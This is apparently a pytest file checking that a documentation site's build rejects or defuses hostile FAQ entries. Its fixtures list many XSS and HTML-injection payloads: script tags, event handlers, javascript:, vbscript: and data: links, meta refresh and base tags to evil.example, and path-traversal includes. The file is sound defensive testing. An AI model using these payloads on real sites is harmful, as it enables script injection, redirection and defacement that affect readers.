"""FAQ entries that want to hurt a reader, built without `make faq` first: the build stops and names them, or they do nothing.

All that MkDocs takes are built at once. docs/.publish/slim.py must stop and name each of STOPPED; the rest reaches the page.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import faq
import pytest
import yaml
from browsing import ORIGIN, Reading, environment, stir, until
from conftest import IN_CI, once
from emulator.harness import ROOT
from playwright.sync_api import Browser, Page

RUN = "window.ran=1"
IMG = f"<img src=x onerror={RUN}>"
OVERLAY = "position:fixed;inset:0;z-index:99;background:red"
CLEAN = {
    "title": "Is kindword harmless?",
    "description": "An answer of one sentence.",
    "tags": ["Reporting"],
    "confidence": "practice",
    "checked": "2026-11-23",
    "sources": {"Page (Microsoft, 2023)": "https://learn.microsoft.com/partner-center/"},
}
# The word "kindword" becomes the kind's own, by which search finds it.
REACHED = {
    "script in the title": {"title": f"Is kindword <script>{RUN}</script> so?"},
    "title that ends head and heading": {"title": f"Is kindword </title></h1>{IMG} so?"},
    "title that ends the structured data": {"title": f"Is kindword </script><script>{RUN}</script> so?"},
    "title that covers the page": {"title": f"Is kindword <div style='{OVERLAY}'>here</div> so?"},
    "title that ends the article": {"title": "Is kindword </h1></article></div></main></body> so?"},
    "title in an attribute": {"title": f"Is kindword \" onclick='{RUN}' x=\" so?"},
    "title that links": {"title": f"Is kindword <a href='javascript:{RUN}'>x</a> so?"},
    "title with entities": {"title": f"Is kindword &lt;img src=x onerror={RUN}&gt; so?"},
    "title in another direction": {"title": "Is kindword \u202eso? \u2066?"},
    "endless title": {"title": "Is kindword " + "a" * 4000 + "?"},
    "script in a source": {"sources": {f"<script>{RUN}</script>": "https://a.example/"}},
    "image in a source": {"sources": {f'">{IMG}': "https://a.example/"}},
    "source that ends its list": {"sources": {"</a></li></ul></section></article>": "https://a.example/"}},
    "address with a handler": {"sources": {"A": f'https://a.example/"onmouseover="{RUN}'}},
    "address with script": {"sources": {"A": f"JavaScript:{RUN}"}},
    "address with data": {"sources": {"A": f"data:text/html,<script>{RUN}</script>"}},
    "description with tags": {
        "description": f'"><meta http-equiv="refresh" content="0;url=https://evil.example">{IMG}'
    },
    "description with an author": {"description": "x", "author": f'"><script>{RUN}</script>'},
    "day with an image": {"checked": "<img src=https://evil.example/x.png>"},
    "hidden navigation": {"hide": ["navigation", "toc", "tags", "footer"]},
    "abbreviation with tags": {"body": f'*[answer]: "><script>{RUN}</script>{IMG}'},
    "comment that swallows": {"body": "Text <!-- and"},
    "code with tags": {"body": f"`<script>{RUN}</script>{IMG}`"},
}
# What CI does with all of them, a laptop does with one for each place where the front matter is printed.
ONE_OF_A_PLACE = [
    *(
        "title that ends the article",
        "endless title",
        "image in a source",
        "address with a handler",
        "address with script",
    ),
    *("description with tags", "day with an image", "hidden navigation"),
]
STOPPED = {
    "raw script": {"body": f"<script>{RUN}</script>"},
    "script from elsewhere": {"body": '<script src="https://evil.example/x.js"></script>'},
    "script inside text": {"body": f"Some <script>{RUN}</script> text."},
    "style": {"body": f"<style>body{{{OVERLAY}}}</style>"},
    "iframe": {"body": '<iframe src="../../users/"></iframe>'},
    "object": {"body": '<object data="../../users/"></object>'},
    "refresh": {"body": '<meta http-equiv="refresh" content="0;url=https://evil.example">'},
    "base": {"body": '<base href="https://evil.example/">'},
    "hint to another host": {"body": '<link rel="dns-prefetch" href="https://evil.example/">'},
    "form": {"body": '<form action="https://evil.example/"><button>Go on</button></form>'},
    "image of elsewhere": {"body": "![a](https://evil.example/x.png)"},
    "image with a handler": {"body": f'<img src="x" onerror="{RUN}">'},
    "drawing with a handler": {"body": f'<svg onload="{RUN}"><path d="M0 0"/></svg>'},
    "attribute list with a handler": {"body": f'Some **text**{{ onclick="{RUN}" }}.'},
    "attribute list with a style": {"body": f'A paragraph.\n{{: style="{OVERLAY}" }}'},
    "attribute list with Material's class": {"body": "A paragraph.\n{: .md-search__overlay }"},
    "attribute list with Material's name": {"body": "## More {: #__config }"},
    "name that ends the contents": {"body": f"## More {{: id='\">{IMG}' }}"},
    "HTML with Markdown": {"body": '<div markdown class="md-overlay">\n\nHello\n\n</div>'},
    "HTML with a style": {"body": f'<div style="{OVERLAY}">Hello</div>'},
    "end of the article": {"body": "</div></article>"},
    "never ended": {"body": "<div>\n\nHello"},
    "field that swallows": {"body": "<textarea>"},
    "link with script": {"body": f"[a](javascript:{RUN})"},
    "autolink with script": {"body": f"<javascript:{RUN}>"},
    "link with a line feed": {"body": f'<a href="java\nscript:{RUN}">a</a>'},
    "link by reference": {"body": f"[a][b]\n\n[b]: vbscript:{RUN}"},
    "link with data": {"body": "[a](data:text/html;base64,PHNjcmlwdD4=)"},
    "link without a scheme": {"body": '<a href="//evil.example/">a</a>'},
    "address with spaces and handlers": {"sources": {"A": f'https://a.example/" onmouseover="{RUN}" style="{OVERLAY}'}},
    "block of Material's class": {"body": '!!! md-search__overlay "Hello"\n    Text.'},
    "template that redirects": {"template": "redirect.html", "location": "https://evil.example/"},
    "template without our escapes": {"template": "base.html", "description": f'">{IMG}'},
    "template that is no page": {"template": ".icons/material/account.svg"},
    "first in every search": {"search": {"boost": 1000}},
}
NOT_BUILT = {
    "unknown theme": {"tags": [f"<script>{RUN}</script>"]},
    "link with script in disguise": {"body": f"[a](Java&#115;cript&colon;{RUN})"},
    "file of elsewhere": {"body": '--8<-- "../mkdocs.yml"'},
    "address of elsewhere": {"body": '--8<-- "https://evil.example/x.md"'},
    "template of elsewhere": {"template": "../../../mkdocs.yml"},
}
CONFIG = (ROOT / "mkdocs.yml").read_text("utf-8")
PARTS = [
    ".md-header",
    ".md-sidebar--primary",
    ".md-content",
    ".md-content__inner",
    ".md-content__inner > h1",
    ".pal-sources",
]
RECTANGLES = """parts => Object.fromEntries(parts
    .map(name => [name, document.querySelector(name)?.getBoundingClientRect()]).filter(([, box]) => box)
    .map(([name, { x, y, width }]) => [name, name === ".pal-sources" ? [x, width] : [x, y, width]]))"""


def slug(kind: str) -> str:
    return re.sub(r"\W+", "-", kind.lower())


def entry(kind: str, changes: dict) -> str:
    fields = CLEAN | {name: value for name, value in changes.items() if name != "body"}
    text = yaml.safe_dump(fields, allow_unicode=True, width=10_000).replace(
        "kindword", f"k{slug(kind).replace('-', '')}"
    )
    return f"---\n{text}---\n\nThe answer is here.\n\n{changes.get('body', '## More')}\n"


def write(folder: Path, entries: dict[str, dict]) -> Path:
    """A small guide: our theme, three pages, and these entries."""
    docs = folder / "docs"
    for name in (".theme", "assets"):
        shutil.copytree(ROOT / "docs" / name, docs / name)
    shutil.copy(ROOT / "docs/_headers", docs)
    (docs / "pal/faq").mkdir(parents=True)
    page = "---\ntitle: {0}\ndescription: {0}.\n---\n\nText.\n\n{1}\n"
    for name, more in {"index": "[FAQ](faq/index.md)", "users": "", "faq/index": "<!-- material/tags -->"}.items():
        (docs / f"pal/{name}.md").write_text(page.format(name, more), "utf-8")
    for kind, changes in ({"clean": {}} | entries).items():
        (docs / f"pal/faq/{slug(kind)}.md").write_text(entry(kind, changes), "utf-8")
    nav = "nav:\n  - Pages: [pal/index.md, pal/users.md, pal/faq/index.md]\n"
    config = re.sub(r"^nav:\n(?:  .*\n)+", nav, CONFIG, flags=re.MULTILINE)
    config = re.sub(r"(redirect_maps:\n +index.md.*\n)(?: {8}.*\n)+", r"\1", config)
    (folder / "mkdocs.yml").write_text(config, "utf-8")
    return folder


def run(*arguments: str | Path, folder: Path) -> str:
    """What our Python says when it fails; nothing when it does not."""
    done = subprocess.run([sys.executable, *arguments], cwd=folder, env=environment(), capture_output=True, text=True)
    return done.stdout + done.stderr if done.returncode else ""


def slim(site: Path) -> str:
    return run(ROOT / "docs/.publish/slim.py", site, folder=ROOT)


@pytest.fixture(scope="module", name="built")
def _built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What MkDocs alone makes of all entries but NOT_BUILT, in `site`."""

    def make(target: Path) -> None:
        write(target, REACHED | STOPPED)
        assert run("-m", "mkdocs", "build", folder=target) == ""

    return once(tmp_path_factory, "hostile", make)


@pytest.fixture(scope="module", name="reached")
def _reached(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The published site with all entries that are not stopped."""

    def make(target: Path) -> None:
        shutil.copytree(built / "site", target)
        for kind in STOPPED:
            shutil.rmtree(target / "pal/faq" / slug(kind))
        index = target / "search/search_index.json"
        index.write_text(index.read_text("utf-8").replace(',"boost":1000', ""), "utf-8")
        assert slim(target) == ""

    return once(tmp_path_factory, "hostile-reached", make)


def test_the_build_stops_and_names_the_file(built: Path, tmp_path: Path) -> None:
    """With the first words of what it found; and nothing but those that are to stop."""
    site = shutil.copytree(built / "site", tmp_path / "site")
    said = slim(site).splitlines()
    named = {re.match(r"pal/faq/([^/]+)/", line)[1] for line in said}
    assert named == {slug(kind) for kind in STOPPED}
    assert all(" → " in line for line in said) and any(
        "raw-script/index.html: <script>window.ran" in line for line in said
    )


@pytest.mark.parametrize("kind", NOT_BUILT)
def test_mkdocs_stops_and_names_the_file(kind: str, tmp_path: Path) -> None:
    said = run("-m", "mkdocs", "build", folder=write(tmp_path, {kind: NOT_BUILT[kind]}))
    assert f"{slug(kind)}.md" in said


def measured(page: Page) -> dict:
    until(page, "document.querySelector('.md-content__inner ul')")
    page.evaluate("scrollTo(0, 0)")
    return page.evaluate(RECTANGLES, PARTS)


@pytest.fixture(scope="module", name="layout")
def _layout(chromium: Browser, reached: Path) -> dict:
    """Where things stand on the page of the clean entry."""
    reading = Reading(chromium, reached)
    rectangles = measured(reading.open("pal/faq/clean/"))
    reading.close()
    assert set(rectangles) == set(PARTS)
    return rectangles


@pytest.mark.parametrize("kind", REACHED if IN_CI else ONE_OF_A_PLACE)
def test_a_hostile_entry_does_nothing(kind: str, reached: Path, chromium: Browser, layout: dict) -> None:
    """On its page, in the results of a search, and on the index after instant navigation; Chromium's console stays empty."""
    reading = Reading(chromium, reached)
    page = reading.open(f"pal/faq/{slug(kind)}/")
    assert measured(page) == layout
    page.hover(".pal-sources li")
    stir(page)
    page.keyboard.press("/")
    page.keyboard.type(f"k{slug(kind).replace('-', '')}")
    page.wait_for_selector(".md-search-result__link")
    title = yaml.safe_load(entry(kind, REACHED[kind]).split("---\n")[1])["title"]
    assert page.locator(".md-search-result__link h1").first.inner_text().split() == title.split()
    page.hover(".md-search-result__link")
    page.keyboard.press("Escape")
    page.click(".pal-up a")
    until(page, f"location.href === {ORIGIN + 'pal/faq/'!r} && document.querySelector('.md-content__inner > h2')")
    index = measured(page)
    assert {name: index[name] for name in index if name != ".md-content__inner > h1"} == {
        name: layout[name] for name in index if name != ".md-content__inner > h1"
    }
    page.set_viewport_size({"width": 390, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.evaluate("window.ran") is None
    reading.close()
    assert reading.wrong == []


@pytest.mark.parametrize("kind", REACHED | STOPPED | NOT_BUILT)
def test_make_faq_refuses_it(kind: str, tmp_path: Path) -> None:
    """With a line and what to write; here the mistakes of the plain entry, which is not named after its title, do not count."""
    changes = (REACHED | STOPPED | NOT_BUILT)[kind]
    found = {}
    for name, change in {"clean": {}, kind: changes}.items():
        path = tmp_path / f"{slug(name)}.md"
        path.write_text(entry(name, change), "utf-8")
        found[name] = {
            text for _, _, text in faq.check([path]) if "file name" not in text and "question as in" not in text
        }
        path.unlink()
    assert (not found["clean"] and found[kind] and all(" → " in text for text in found[kind])) or kind in HARMLESS


# What Markdown itself makes harmless, and is plain text to write.
HARMLESS = {"code with tags", "title in an attribute"}
